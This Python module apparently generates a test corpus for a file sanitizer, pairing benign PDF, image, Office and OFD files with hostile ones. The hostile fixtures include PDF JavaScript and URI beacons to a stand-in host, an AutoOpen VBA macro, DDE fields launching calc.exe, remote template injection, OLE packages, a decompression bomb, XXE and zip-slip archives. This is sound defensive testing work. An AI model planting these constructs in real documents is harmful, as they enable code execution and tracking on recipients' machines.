"""Corpus cases for PDF, images, OOXML and OFD (benign controls and hostile files).

``cases(seed)`` randomises file names, text and where payloads sit from ``seed``. Each
``check(original, delivered)`` confirms independently of the outside sanitizers: content is
preserved (same text, same pixels for lossless images) and, for hostile files, the delivered
bytes pass the inside re-check and no longer contain the payload markers.
"""

# ruff: noqa: E501  (fixtures are literal PDF/XML byte strings; wrapping them hurts reading)

from __future__ import annotations

import contextlib
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from inside.recheck import recheck_bytes
from tests.corpus import build_docs as B
from tests.corpus.case import Case

WORDS = [
    "通知",
    "会议",
    "预算",
    "报告",
    "材料",
    "annual",
    "budget",
    "review",
    "office",
    "notice",
    "第三季度",
    "plan",
]
VBA_CT = "application/vnd.ms-office.vbaProject"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
PDF_JS = b"<< /S /JavaScript /JS (app.launchURL\\('http://198.51.100.7/'\\)) >>"


def _sentence(rnd: random.Random, ascii_only: bool = False) -> str:
    pool = [w for w in WORDS if w.isascii()] if ascii_only else WORDS
    return " ".join(rnd.choice(pool) for _ in range(rnd.randint(3, 7))) + f" {rnd.randint(1, 9999)}"


def _name(rnd: random.Random, ext: str) -> str:
    stem = rnd.choice(["report", "scan", "memo", "notice", "材料", "通知", "budget", "minutes"])
    return f"{stem}_{rnd.randint(100, 999)}.{ext}"


# -- independent checks -------------------------------------------------------------------


def _clean(kind: str, markers: tuple[bytes, ...] = ()) -> Callable[[bytes, bytes], None]:
    def check(original: bytes, delivered: bytes) -> None:
        result = recheck_bytes(delivered, kind)
        assert result.ok, result.problems
        blob = _unzipped(delivered) if kind in ("docx", "xlsx", "pptx", "ofd") else delivered
        for marker in markers:
            assert marker not in blob, f"payload marker {marker!r} delivered"

    return check


def _unzipped(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return b"".join(zf.read(n) for n in zf.namelist())


def _pdf_text(data: bytes) -> list[bytes]:
    """Text operands of every (Flate or raw) stream, by a regex — not by pikepdf."""
    out = []
    for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        body = m.group(1)
        with contextlib.suppress(zlib.error):
            body = zlib.decompress(body)
        out += re.findall(rb"\(((?:\\.|[^\\)])*)\) Tj", body)
    return sorted(out)


def _same_pdf_text(kind_check: Callable[[bytes, bytes], None]) -> Callable[[bytes, bytes], None]:
    def check(original: bytes, delivered: bytes) -> None:
        kind_check(original, delivered)
        assert _pdf_text(delivered) == _pdf_text(original), "PDF text changed"

    return check


def _xml_texts(data: bytes, pattern: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [
            t
            for n in sorted(zf.namelist())
            if n.endswith(".xml") and not n.startswith(("docProps", "["))
            for t in re.findall(pattern, zf.read(n))
        ]


def _same_xml_text(
    kind: str, pattern: bytes, markers: tuple[bytes, ...] = ()
) -> Callable[[bytes, bytes], None]:
    base = _clean(kind, markers)

    def check(original: bytes, delivered: bytes) -> None:
        base(original, delivered)
        assert _xml_texts(delivered, pattern) == _xml_texts(original, pattern), (
            "document text changed"
        )

    return check


OOXML_TEXT = rb"<(?:w:|a:)?t(?: [^>]*)?>([^<]+)</"
OFD_TEXT = rb"<ofd:TextCode[^>]*>([^<]*)<"


def _same_pixels(kind: str, lossless: bool) -> Callable[[bytes, bytes], None]:
    def check(original: bytes, delivered: bytes) -> None:
        result = recheck_bytes(delivered, kind)
        assert result.ok, result.problems
        a = Image.open(io.BytesIO(original)).convert("RGBA")
        b = Image.open(io.BytesIO(delivered)).convert("RGBA")
        assert a.size == b.size
        if lossless:
            assert a.tobytes() == b.tobytes(), "pixels changed"

    return check


# -- builders -----------------------------------------------------------------------------


def _image(rnd: random.Random, size: tuple[int, int] = (160, 120)) -> Image.Image:
    w, h = size
    im = Image.new("RGB", size, (rnd.randrange(256), rnd.randrange(256), rnd.randrange(256)))
    px = im.load()
    assert px is not None
    for _ in range(400):
        px[rnd.randrange(w), rnd.randrange(h)] = (
            rnd.randrange(256),
            rnd.randrange(256),
            rnd.randrange(256),
        )
    return im


def _encode(im: Image.Image, fmt: str, **kw: object) -> bytes:
    buf = io.BytesIO()
    im.save(buf, fmt, **kw)
    return buf.getvalue()


def _pdf_cases(rnd: random.Random) -> list[Case]:
    pages = [
        [_sentence(rnd, True) for _ in range(rnd.randint(1, 4))] for _ in range(rnd.randint(1, 5))
    ]
    fe = B.first_extra(len(pages))
    efile = B.stream_obj(
        b"MZ\x90\x00 dropper", b"/Type /EmbeddedFile ", compress=rnd.random() < 0.5
    )
    clean = _same_pdf_text(_clean("pdf", (b"198.51.100.7", b"MZ\x90")))
    hostile = {
        "pdf.openaction_js": B.simple_pdf(
            pages, catalog_extra=b"/OpenAction %d 0 R " % fe, extra_objects=[PDF_JS]
        ),
        "pdf.names_js_escaped": B.simple_pdf(
            pages,
            catalog_extra=b"/Names << /J#61vaScript << /Names [(a) %d 0 R] >> >> " % fe,
            extra_objects=[PDF_JS],
        ),
        "pdf.embedded_file": B.simple_pdf(
            pages,
            catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F %d 0 R >> >>] >> >> "
            % fe,
            extra_objects=[efile],
        ),
        "pdf.xfa": B.simple_pdf(
            pages,
            catalog_extra=b"/AcroForm << /Fields [] /XFA %d 0 R >> " % fe,
            extra_objects=[
                B.stream_obj(
                    b"<xdp:xdp><script>app.launchURL('http://198.51.100.7/')</script></xdp:xdp>"
                )
            ],
        ),
        "pdf.launch": B.simple_pdf(
            pages,
            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>] ",
        ),
        "pdf.page_aa": B.simple_pdf(
            pages, page_extra=b"/AA << /O %d 0 R >> " % fe, extra_objects=[PDF_JS]
        ),
        "pdf.uri_beacon": B.simple_pdf(
            pages,
            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://198.51.100.7/) >> >>] ",
        ),
        "pdf.incremental_openaction": B.incremental_update(
            B.simple_pdf(pages),
            {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction %d 0 R >>" % fe, fe: PDF_JS},
            size=fe + 1,
        ),
        "pdf.trailing_zip": B.simple_pdf(pages) + B.zip_bytes([("MZ\x90.exe", b"MZ\x90\x00")]),
    }
    out = [
        Case(
            _name(rnd, "pdf"),
            B.simple_pdf(pages),
            "deliver",
            _same_pdf_text(_clean("pdf")),
            "pdf.benign",
        )
    ]
    out += [Case(_name(rnd, "pdf"), data, "clean", clean, klass) for klass, data in hostile.items()]
    good = B.simple_pdf(pages)
    out.append(
        Case(
            _name(rnd, "pdf"),
            good[: good.rfind(b"xref")],
            "reject:MALFORMED",
            None,
            "pdf.needs_repair",
        )
    )
    return out


def _png_with(data: bytes, chunks: bytes, trailer: bytes) -> bytes:
    return data[:33] + chunks + data[33:] + trailer


def _image_cases(rnd: random.Random) -> list[Case]:
    im = _image(rnd)
    png = _encode(im, "PNG")
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, rnd.randint(0, 59) * 1.0)}
    side = rnd.choice([30000, 40000])
    row = b"\x00" * (1 + (side + 7) // 8)
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + B.png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + B.png_chunk(b"IDAT", idat)
        + B.png_chunk(b"IEND", b"")
    )
    return [
        Case(_name(rnd, "png"), png, "deliver", _same_pixels("png", True), "png.benign"),
        Case(
            _name(rnd, "jpg"),
            _encode(im, "JPEG", quality=90),
            "deliver",
            _same_pixels("jpeg", False),
            "jpeg.benign",
        ),
        Case(
            _name(rnd, "gif"),
            _encode(im.convert("P"), "GIF"),
            "deliver",
            _same_pixels("png", True),
            "gif.benign",
        ),
        Case(
            _name(rnd, "bmp"),
            _encode(im, "BMP"),
            "deliver",
            _same_pixels("png", True),
            "bmp.benign",
        ),
        Case(
            _name(rnd, "tif"),
            _encode(im, "TIFF"),
            "deliver",
            _same_pixels("png", True),
            "tiff.benign",
        ),
        Case(
            _name(rnd, "png"),
            _png_with(
                png,
                B.png_chunk(b"tEXt", b"Comment\x00" + _sentence(rnd, True).encode())
                + B.png_chunk(b"stEg", b"covert"),
                B.zip_bytes([("x.exe", b"MZ\x90\x00")]),
            ),
            "clean",
            _same_pixels("png", True),
            "png.chunks_and_polyglot_tail",
        ),
        Case(
            _name(rnd, "jpg"),
            _encode(im, "JPEG", exif=exif, comment=b"operator li na"),
            "clean",
            _same_pixels("jpeg", False),
            "jpeg.exif_gps_comment",
        ),
        Case(_name(rnd, "png"), bomb, "reject:LIMIT_EXCEEDED", None, "png.decompression_bomb"),
    ]


def _ooxml_cases(rnd: random.Random) -> list[Case]:
    paras = [_sentence(rnd) for _ in range(rnd.randint(2, 5))]
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + b'Sub AutoOpen()\nShell "calc.exe"\nEnd Sub\n'
    )
    dde_at = rnd.randint(0, 1)
    dde = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
        'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    markers = (b"calc", b"198.51.100.7", b"vbaProject", b"Ole10Native")
    word = _same_xml_text("docx", OOXML_TEXT, markers)
    return [
        Case(
            _name(rnd, "docx"),
            B.docx(paras),
            "deliver",
            _same_xml_text("docx", OOXML_TEXT),
            "docx.benign",
        ),
        Case(
            _name(rnd, "xlsx"),
            B.xlsx([[w, rnd.randint(1, 999) * 1.0] for w in paras], formulas={"C1": "SUM(B1:B3)"}),
            "deliver",
            _same_xml_text("xlsx", OOXML_TEXT),
            "xlsx.benign",
        ),
        Case(
            _name(rnd, "pptx"),
            B.pptx(paras),
            "deliver",
            _same_xml_text("pptx", OOXML_TEXT),
            "pptx.benign",
        ),
        Case(
            _name(rnd, "docm"),
            B.docx(
                paras,
                kind="docm",
                doc_rels=[("rIdV", VBA_REL, "vbaProject.bin")],
                extra_parts=[("word/vbaProject.bin", vba)],
                defaults={"bin": VBA_CT},
            ),
            "clean",
            word,
            "docm.vba_macro",
        ),
        Case(
            _name(rnd, "docx"),
            B.docx(
                paras,
                settings_rels=[
                    ("rIdT", "attachedTemplate", "http://198.51.100.7/t.dotm", "External")
                ],
                settings_extra='<w:attachedTemplate r:id="rIdT"/>',
            ),
            "clean",
            word,
            "docx.template_injection",
        ),
        Case(
            _name(rnd, "docx"),
            B.docx(paras if dde_at else paras[:1], body_extra=dde),
            "clean",
            _clean("docx", markers),
            "docx.ddeauto",
        ),
        Case(
            _name(rnd, "docx"),
            B.docx(
                paras,
                body_extra='<w:p><w:r><w:drawing><a:blip r:link="rIdL"/></w:drawing></w:r></w:p>',
                doc_rels=[("rIdL", "image", "http://198.51.100.7/beacon.png", "External")],
            ),
            "clean",
            word,
            "docx.external_image",
        ),
        Case(
            _name(rnd, "docx"),
            B.docx(
                paras,
                body_extra='<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rIdO"/></w:object></w:r></w:p>',
                doc_rels=[("rIdO", "oleObject", "embeddings/oleObject1.bin")],
                extra_parts=[
                    (
                        "word/embeddings/oleObject1.bin",
                        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x01Ole10Native run.bat",
                    )
                ],
            ),
            "clean",
            word,
            "docx.ole_embedding",
        ),
        Case(
            _name(rnd, "xlsx"),
            B.xlsx([["x", 1.0]], formulas={"C1": "cmd|' /C calc'!A0"}),
            "clean",
            _clean("xlsx", markers),
            "xlsx.dde_formula",
        ),
        Case(
            _name(rnd, "xlsx"),
            B.xlsx(
                [["x", 1.0]],
                wb_rels=[("rIdE", "externalLink", "externalLinks/externalLink1.xml")],
                extra_parts=[
                    (
                        "xl/externalLinks/externalLink1.xml",
                        b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                    ),
                    (
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        B.rels_xml(
                            [
                                (
                                    "rId1",
                                    "externalLinkPath",
                                    "file:///\\\\198.51.100.7\\s\\b.xlsx",
                                    "External",
                                )
                            ]
                        ),
                    ),
                ],
            ),
            "clean",
            _clean("xlsx", markers),
            "xlsx.external_workbook",
        ),
        Case(
            _name(rnd, "docx"),
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
            "reject:MALFORMED",
            None,
            "docx.cfb_not_ooxml",
        ),
    ]


def _ofd_cases(rnd: random.Random) -> list[Case]:
    pages = [_sentence(rnd) for _ in range(rnd.randint(1, 4))]
    img = _encode(_image(rnd, (32, 24)), "PNG")
    markers = (b"198.51.100.7", b"MZ\x90", b"<ofd:Actions", b"Attachment", b"CustomTag", b"Video")
    hostile = _same_xml_text("ofd", OFD_TEXT, markers)
    return [
        Case(
            _name(rnd, "ofd"),
            B.ofd(pages, image=img),
            "deliver",
            _same_xml_text("ofd", OFD_TEXT),
            "ofd.benign",
        ),
        Case(
            _name(rnd, "ofd"),
            B.ofd(
                pages,
                image=img,
                actions=True,
                attachment=b"MZ\x90\x00",
                multimedia=True,
                custom_tags=True,
                extensions=True,
                external_font="http://198.51.100.7/f.ttf",
            ),
            "clean",
            hostile,
            "ofd.active_and_attachments",
        ),
        Case(
            _name(rnd, "ofd"), B.ofd(pages, dtd=True), "reject:XML_DTD_FORBIDDEN", None, "ofd.xxe"
        ),
        Case(
            _name(rnd, "ofd"),
            B.ofd(pages, traversal_member=True),
            "reject:ARCHIVE_TRAVERSAL",
            None,
            "ofd.zip_slip",
        ),
        Case(
            _name(rnd, "ofd"),
            B.ofd(pages, traversal_locator=True),
            "reject:ARCHIVE_TRAVERSAL",
            None,
            "ofd.locator_traversal",
        ),
    ]


def cases(seed: int) -> list[Case]:
    rnd = random.Random(seed)
    out = _pdf_cases(rnd) + _image_cases(rnd) + _ooxml_cases(rnd) + _ofd_cases(rnd)
    rnd.shuffle(out)
    return out
